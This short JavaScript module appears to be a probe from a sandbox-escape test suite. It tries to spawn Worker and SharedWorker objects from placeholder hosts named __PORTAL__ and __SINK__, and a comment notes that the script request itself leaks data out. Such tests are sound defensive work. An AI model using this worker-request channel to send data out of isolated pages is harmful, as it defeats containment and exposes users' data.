// A worker from an address: the request for its script is the leak.
export async function work() {
  for (const Kind of ['Worker', 'SharedWorker'])
    for (const url of ['http://__PORTAL__/leak.js', 'http://__SINK__/worker.js'])
      attempt(
        () =>
          new Promise((resolve) => {
            const worker = new globalThis[Kind](url)
            worker.onerror = resolve
            ;(worker.port ?? worker).onmessage = resolve
          }),
      )
  return settled()
}
